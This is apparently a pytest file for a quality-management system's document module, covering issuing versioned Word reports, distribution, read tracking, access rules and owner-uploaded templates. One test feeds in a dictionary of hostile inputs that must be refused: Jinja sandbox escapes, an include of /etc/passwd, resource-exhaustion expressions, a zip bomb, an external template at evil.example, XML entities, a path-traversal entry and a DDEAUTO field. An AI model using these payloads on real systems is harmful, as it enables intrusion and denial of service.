"""Documents: drafted, issued with frozen figures, handed out, read; templates replaced, hostile ones refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from openpyxl import Workbook
from sqlalchemy import insert, select, update

from engine import documents
from engine.bootstrap import Platform
from engine.documents import templates
from engine.documents.checking import LIMIT_BYTES, check_package
from engine.documents.issuing import DocumentNotIssued, NothingToIssue, latest_issued
from engine.documents.kind import DocumentKind, DocumentKindUnknown, RecordMissing
from engine.documents.kinds import KINDS, kind_of
from engine.documents.rendering import ROW_LIMIT, TemplateInvalid, render
from engine.documents.templates import EXAMPLE, TemplateReasonMissing, TemplateUnknown
from engine.errors import Forbidden
from engine.handlers import ServiceCall
from engine.registers import document_topics
from engine.store.tables import (
    audit_item,
    complaint,
    corrective_action,
    document,
    document_recipient,
    group,
    internal_audit,
    management_review,
    nonconformity,
    review_attendance,
    review_input,
    user,
)
from tests.support.company import Company
from tests.support.findings import analyse_nonconformity, complain, raise_nonconformity
from tests.support.people import People

REPORT = "nonconformity_report"


@pytest.fixture
def company(any_platform: Platform, people: People, tmp_path: Path) -> Company:
    return Company(any_platform, people, tmp_path)


def issue(company: Company, record_id: int, kind: str = REPORT, make: Callable[..., int] = documents.issue) -> int:
    with company.platform.database.write() as connection:
        return make(
            connection,
            actor=company.actor("hexin"),
            kind=kind,
            record_id=record_id,
            zone=company.platform.settings.zone,
            now=company.clock.now(),
        )


def hand_out(company: Company, document_id: int, *logins: str) -> int:
    ids = [company.actor(login).user_id for login in logins]
    with company.platform.database.write() as connection:
        return documents.distribute(
            connection,
            actor=company.actor("hexin"),
            document_id=document_id,
            user_ids=[one for one in ids if one is not None],
            now=company.clock.now(),
        )


def words_of(content: bytes) -> str:
    """All text of a Word file, tables included."""
    file = Document(io.BytesIO(content))
    cells = [cell.text for table in file.tables for row in table.rows for cell in row.cells]
    return "\n".join(
        [*(one.text for one in file.paragraphs), *cells, *(s.text for s in file.sections[0].header.paragraphs)]
    )


def word_of(company: Company, document_id: int) -> str:
    with company.platform.database.read() as connection:
        return words_of(documents.content_of(connection, company.actor("hexin"), document_id)[1])


def test_a_draft_follows_its_record_and_an_issue_does_not(company: Company) -> None:
    row = analyse_nonconformity(company)
    draft = issue(company, row.id, make=documents.draft)
    assert "草稿 DRAFT" in word_of(company, draft)
    with company.platform.database.write() as connection:
        connection.execute(update(nonconformity).values(root_cause="制度有缺口\n第二行"))
    assert issue(company, row.id, make=documents.draft) == draft, "there is one draft, brought up to date"
    issued = issue(company, row.id)
    assert issued == draft
    text = word_of(company, issued)
    assert "草稿" not in text
    for wanted in (
        "NR-20260302-001  v1",
        row.number,
        "制度有缺口\n第二行",
        "服务台",
        "一般不符合",
        "刘洋",
        "修订交接制度",
    ):
        assert wanted in text, wanted

    with company.platform.database.write() as connection:
        connection.execute(update(nonconformity).values(root_cause="另一个原因"))
    assert "另一个原因" not in word_of(company, issued)
    again = issue(company, row.id)
    rows = {one.id: one for one in company.rows(document)}
    assert (rows[issued].status, rows[again].status) == ("superseded", "issued")
    assert rows[again].number == rows[issued].number
    assert rows[again].version == 2
    assert issue(company, row.id) == again, "nothing has changed: the issue stands"
    assert len(rows) == 2
    with company.platform.database.read() as connection:
        assert documents.versions(connection, company.actor("hexin"), rows[again].number)[0].version == 2


def test_what_a_record_says_cannot_change_the_word_file(company: Company) -> None:
    row = raise_nonconformity(company, title="<w:p>{{ 7 * 7 }} & “引号”</w:p>")
    assert "<w:p>{{ 7 * 7 }} & “引号”</w:p>" in word_of(company, issue(company, row.id))


def test_people_get_an_issued_document_once_and_it_is_known_who_read_it(company: Company) -> None:
    row = raise_nonconformity(company)
    draft = issue(company, row.id, make=documents.draft)
    with pytest.raises(DocumentNotIssued):
        hand_out(company, draft, "qiumin")
    with company.platform.database.read() as connection, pytest.raises(NothingToIssue):
        latest_issued(connection, REPORT, row.id)
    issued = issue(company, row.id)
    assert hand_out(company, issued, "qiumin", "emily") == 2
    assert hand_out(company, issued, "qiumin", "tangyan") == 1
    company.deliver()
    mails = [(to, subject) for to, subject in company.subjects if row.number in subject]
    assert ("qiumin", f"请查阅：不符合项报告 {row.number} {row.title}") in mails
    assert ("emily", f"Please read: 不符合项报告 {row.number} {row.title}") in mails
    assert len([1 for _to, subject in mails if "报告" in subject]) == 3

    reader = company.actor("qiumin")
    with company.platform.database.write() as connection:
        assert documents.unread_count(connection, reader) == 1
        assert documents.mark_read(connection, actor=reader, document_id=issued, now=company.clock.now())
        assert not documents.mark_read(connection, actor=reader, document_id=issued, now=company.clock.now())
        assert not documents.mark_read(
            connection, actor=company.actor("admin"), document_id=issued, now=company.clock.now()
        )
        assert documents.unread_count(connection, reader) == 0
    with company.platform.database.read() as connection:
        read = {one.login: one.read_at for one in documents.recipients(connection, issued)}
    assert read == {"qiumin": company.clock.now(), "emily": None, "tangyan": None}


def test_who_may_read_a_document(company: Company) -> None:
    row = raise_nonconformity(company)
    issued = issue(company, row.id)
    hand_out(company, issued, "qiumin")
    may = {"hexin": True, "linfang": True, "admin": True, "qiumin": True, "sunli": True, "guojun": False}
    with company.platform.database.read() as connection:
        for login, allowed in may.items():
            actor = company.actor(login)
            assert bool(documents.of_record(connection, actor, "nonconformity", row.id)) is allowed, login
            if allowed:
                assert documents.get(connection, actor, issued).number == "NR-20260302-001"
            else:
                with pytest.raises(documents.DocumentUnknown):
                    documents.content_of(connection, actor, issued)
        listed = {
            login: [one.id for one in documents.page(connection, company.actor(login), documents.DocumentQuery())[0]]
            for login in may
        }
    # Sun Li raised the nonconformity and finds the report there; the list has what is hers to read.
    assert listed == {"hexin": [issued], "linfang": [issued], "admin": [issued], "qiumin": [issued]} | {
        "sunli": [],
        "guojun": [],
    }


def test_the_list_is_filtered_searched_and_paged(company: Company) -> None:
    issued = [issue(company, raise_nonconformity(company, title=f"第{number}项").id) for number in range(3)]
    issue(company, complain(company).id, "major_complaint_report", documents.draft)
    query = documents.DocumentQuery
    with company.platform.database.read() as connection:
        actor = company.actor("hexin")

        def found(**wanted: object) -> list[int]:
            return [one.id for one in documents.page(connection, actor, query(**wanted))[0]]  # type: ignore[arg-type]

        assert found(kind=REPORT) == found(status="issued") == issued[::-1]
        assert found(search="第1项") == [issued[1]]
        assert found(unread=True) == []
        rows, after = documents.page(connection, actor, query(kind=REPORT, size=2))
        assert [one.id for one in rows] == issued[:0:-1]
        assert found(kind=REPORT, after=after) == [issued[0]]


def test_a_diagram_makes_documents_by_topics(company: Company) -> None:
    row = raise_nonconformity(company)
    zone = company.platform.settings.zone

    def call(**inputs: object) -> ServiceCall:
        return ServiceCall(
            connection=connection,
            instance_id=row.instance_id,
            business_key=row.number,
            element_id="issue",
            dedup_key="task",
            inputs={"kind": REPORT, **inputs},
            variables={},
            actor=company.actor("hexin"),
            now=company.clock.now(),
        )

    with company.platform.database.write() as connection:
        drafted = document_topics.draft(call(), zone)
        issued = document_topics.issue(call(record_id=str(row.id)), zone)
        assert issued == drafted == document_topics.issue(call(), zone), "a retried step finds what it did"
        assert issued["document"] == {"id": 1, "number": "NR-20260302-001", "version": 1}
        for _ in range(2):
            document_topics.distribute(call(groups="finance, management", people=["sunli"]))
        with pytest.raises(RecordMissing):
            document_topics.issue(call(kind="internal_audit_report"), zone)
        with pytest.raises(RecordMissing):
            document_topics.issue(call(record_id=999), zone)
        with pytest.raises(DocumentKindUnknown):
            document_topics.issue(call(kind="poem"), zone)
    got = select(user.c.login).join(document_recipient, document_recipient.c.user_id == user.c.id)
    with company.platform.database.read() as connection:
        assert set(connection.scalars(got)) == {"qiumin", "linfang", "majianguo", "sunli"}


class TestKinds:
    @pytest.mark.parametrize("kind", KINDS.values(), ids=KINDS)
    def test_the_shipped_template_is_safe_and_shows_the_example(self, kind: DocumentKind) -> None:
        check_package(kind.shipped)
        text = words_of(render(kind.shipped, kind.example, EXAMPLE))
        assert str(EXAMPLE["number"]) in text
        assert "{" not in text

    def test_an_audit_report_counts_what_was_found_in_each_department(self, company: Company) -> None:
        with company.platform.database.write() as connection:
            values = {"number": "IA-1", "year": 2026, "title": "年中审核", "status": "reporting", "conclusion": "有效"}
            audit_id = connection.execute(
                insert(internal_audit).values(begins_on=date(2026, 6, 10), **values).returning(internal_audit.c.id)
            ).scalar_one()
            desk = connection.execute(select(group.c.id).where(group.c.key == "service_desk")).scalar_one()
            for ordinal, result in enumerate(("conform", "conform", "minor", "observation", None), 1):
                connection.execute(
                    insert(audit_item).values(
                        audit_id=audit_id,
                        department_id=desk,
                        ordinal=ordinal,
                        area="people",
                        clause="7.1",
                        question_zh="培训了吗？",
                        result=result,
                        files=[],
                    )
                )
        found = raise_nonconformity(company, source_type="internal_audit", source_id=str(audit_id))
        data = self._data(company, "internal_audit_report", audit_id)
        (desk_row,) = data["by_department"]
        assert (desk_row["department"], desk_row["total"]["text"], desk_row["conform"]["text"]) == ("服务台", "5", "2")
        assert data["open_count"]["text"] == "1"
        assert [one["number"]["record"] for one in data["nonconformities"]] == [["nonconformity", found.id]]
        assert data["nonconformities_count"]["text"] == "1"
        assert [one["result"]["text"] for one in data["remarks"]] == ["观察项"]
        self._same_shape(data, "internal_audit_report")

    def test_a_complaint_report_knows_the_customers_other_complaints(self, company: Company) -> None:
        first, second = complain(company), complain(company, subject="又没有人来")
        complain(company, customer="别的客户")
        raised = raise_nonconformity(company, source_type="complaint", source_id=str(second.id))
        with company.platform.database.write() as connection:
            connection.execute(update(complaint).values(whys=["派工漏单"]))
        data = self._data(company, "major_complaint_report", second.id)
        assert [one["number"]["text"] for one in data["earlier"]] == [first.number]
        assert data["earlier_count"]["text"] == "1"
        assert [one["number"]["text"] for one in data["nonconformities"]] == [raised.number]
        self._same_shape(data, "major_complaint_report")

    def test_a_review_report_has_inputs_attendance_verdicts_and_actions(self, company: Company) -> None:
        started = company.instances[0].id if company.instances else raise_nonconformity(company).instance_id
        with company.platform.database.write() as connection:
            review_id = connection.execute(
                insert(management_review)
                .values(number="MR-1", instance_id=started, year=2026, title="年度评审", status="reporting")
                .returning(management_review.c.id)
            ).scalar_one()
            owner = connection.execute(select(group.c.id).where(group.c.key == "quality")).scalar_one()
            connection.execute(
                insert(review_input).values(
                    review_id=review_id,
                    ordinal=1,
                    title_zh="审核结果",
                    owner_group_id=owner,
                    status="received",
                    files=[],
                )
            )
            connection.execute(
                insert(review_attendance).values(
                    review_id=review_id, kind="top_management", person="马建国", is_present=True
                )
            )
            connection.execute(
                insert(corrective_action).values(
                    number="A-1",
                    management_review_id=review_id,
                    kind="improvement",
                    description="扫码",
                    owner_id=company.actor("hexin").user_id,
                    due_on=date(2026, 6, 30),
                    status="open",
                )
            )
        data = self._data(company, "management_review_report", review_id)
        assert (data["inputs_count"]["text"], data["received_count"]["text"]) == ("1", "1")
        assert data["attendance"][0]["present"] == "出席"
        assert data["actions"][0]["owner"] == "何欣"
        self._same_shape(data, "management_review_report")

    def test_a_nonconformity_report_has_the_shape_of_its_example(self, company: Company) -> None:
        self._same_shape(self._data(company, REPORT, analyse_nonconformity(company).id), REPORT)

    def _data(self, company: Company, kind: str, record_id: int) -> dict[str, Any]:
        issued = issue(company, record_id, kind)
        return next(one.data for one in company.rows(document) if one.id == issued)

    def _same_shape(self, data: object, kind: str) -> None:
        """An owner's template that renders the example renders what was collected: both have the same keys."""
        assert _shape(data) == _shape(dict(kind_of(kind).example))


def _shape(data: object) -> object:
    if isinstance(data, dict):
        return (
            "text"
            if "text" in data and ("record" in data or "register" in data)
            else {k: _shape(v) for k, v in data.items()}
        )
    if isinstance(data, list):
        return [_shape(data[0])] if data and isinstance(data[0], dict) else "rows"
    return "text"


def template_with(*paragraphs: str) -> bytes:
    """A Word file an owner might upload."""
    file, target = Document(), io.BytesIO()
    for text in paragraphs:
        file.add_paragraph(text)
    file.save(target)
    return target.getvalue()


def changed(part: str, content: bytes | Callable[[bytes], bytes], base: bytes | None = None) -> bytes:
    """A Word file with one part replaced or added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base or template_with("你好"))) as old, zipfile.ZipFile(target, "w") as new:
        names = [one for one in old.namelist() if one != part]
        for name in names:
            new.writestr(name, old.read(name))
        before = old.read(part) if part in old.namelist() else b""
        new.writestr(part, content(before) if callable(content) else content)
    return target.getvalue()


def bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * (60 * 1024 * 1024))
    return target.getvalue()


def spreadsheet() -> bytes:
    target = io.BytesIO()
    Workbook().save(target)
    return target.getvalue()


EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "the way out of the sandbox": template_with("{{ ''.__class__.__mro__ }}"),
    "the way out by an item": template_with("{{ nonconformity['__class__'] }}"),
    "the way out by a filter": template_with("{{ nonconformity|attr('title') }}"),
    "a huge range": template_with("{% for i in range(999999999) %}x{% endfor %}"),
    "a call": template_with("{{ nonconformity.title.upper() }}"),
    "a huge product": template_with("{{ 'x' * 999999999 }}"),
    "a huge power": template_with("{{ 9 ** 9 ** 9 }}"),
    "text that doubles": template_with("{% set a = 'x' %}"),
    "a macro": template_with("{% macro m() %}{% endmacro %}"),
    "another file": template_with("{% include '/etc/passwd' %}"),
    "a loop over text": template_with("{% for a in 'xxxx' %}{% endfor %}"),
    "a wide format": template_with("{{ 'x'|center(999999999) }}"),
    "nested loops": template_with("{% for a in whys %}" * 12 + "x" + "{% endfor %}" * 12),
    "an unknown figure": template_with("{{ nonconformity.weather }}"),
    "a broken tag": template_with("{% if %}"),
    "no Word file": b"PK\x03\x04 nothing",
    "an empty file": b"",
    "a spreadsheet": spreadsheet(),
    "too large": b"0" * (LIMIT_BYTES + 1),
    "a bomb": bomb(),
    "a macro project": changed("word/vbaProject.bin", b"x"),
    "an embedded object": changed("word/embeddings/oleObject1.docx", b"x"),
    "a template elsewhere": changed("word/_rels/settings.xml.rels", EXTERNAL),
    "an entity": changed("word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "an entity in UTF-16": changed(
        "word/extra.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><a/>'.encode("utf-16")
    ),
    "a path that climbs": changed("../../etc/cron.d/x", b"x"),
    "broken XML": changed("word/styles.xml", b"<w:styles"),
    "a macro type": changed(
        "[Content_Types].xml",
        lambda old: old.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "a field that runs programs": changed(
        "word/document.xml",
        lambda old: old.replace(b"<w:t>", b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x </w:instrText><w:t>'),
    ),
}


class TestTemplates:
    @pytest.mark.parametrize("name", HOSTILE)
    def test_a_hostile_or_broken_template_is_refused_with_its_reason(self, name: str) -> None:
        content = HOSTILE[name]
        example = {**kind_of(REPORT).example, "whys": [{"number": 1, "text": "x"}] * 5}
        with pytest.raises(TemplateInvalid) as refused:
            check_package(content)
            render(content, example, EXAMPLE)
        assert refused.value.message("zh").startswith("模板不能使用：")
        assert refused.value.message("en").startswith("The template cannot be used: ")
        assert len(refused.value.details["zh"]) > 3

    def test_rows_beyond_any_report_are_refused(self) -> None:
        rows = template_with("{% for a in whys %}{{ a.text }}{% endfor %}")
        whys = [{"number": 1, "text": "x"}] * (ROW_LIMIT + 1)
        with pytest.raises(TemplateInvalid, match="template_invalid"):
            render(rows, {**kind_of(REPORT).example, "whys": whys}, EXAMPLE)

    def test_an_owners_template_is_used_from_then_on_and_every_version_is_kept(self, company: Company) -> None:
        row = raise_nonconformity(company)
        before = issue(company, row.id)
        own = template_with("本公司格式：{{ nonconformity.title }}{% if document.is_draft %}草稿{% endif %}")

        def replace(login: str, content: bytes = own, reason: str = "加公司标识") -> int:
            with company.platform.database.write() as connection:
                return templates.replace(
                    connection,
                    actor=company.actor(login),
                    kind=REPORT,
                    content=content,
                    reason=reason,
                    now=company.clock.now(),
                )

        with pytest.raises(Forbidden):
            replace("liuyang")
        with pytest.raises(TemplateReasonMissing):
            replace("hexin", reason=" ")
        with pytest.raises(TemplateInvalid):
            replace("hexin", HOSTILE["a bomb"])
        assert replace("hexin") == 1
        assert replace("admin", template_with("第二版：{{ nonconformity.title }}"), "改版") == 2
        after = issue(company, row.id)
        assert after != before, "a new template makes a new issue"
        assert word_of(company, after).startswith(f"第二版：{row.title}")
        assert "不符合项报告" in word_of(company, before)
        with company.platform.database.read() as connection:
            history = templates.history(connection, REPORT)
            assert [(one.version, one.is_latest, one.uploader_name) for one in history] == [
                (2, True, "林志远"),
                (1, False, "何欣"),
            ]
            assert templates.content_of(connection, REPORT, 1) == own
            assert templates.content_of(connection, REPORT, 0) == kind_of(REPORT).shipped
            with pytest.raises(TemplateUnknown):
                templates.content_of(connection, REPORT, 3)
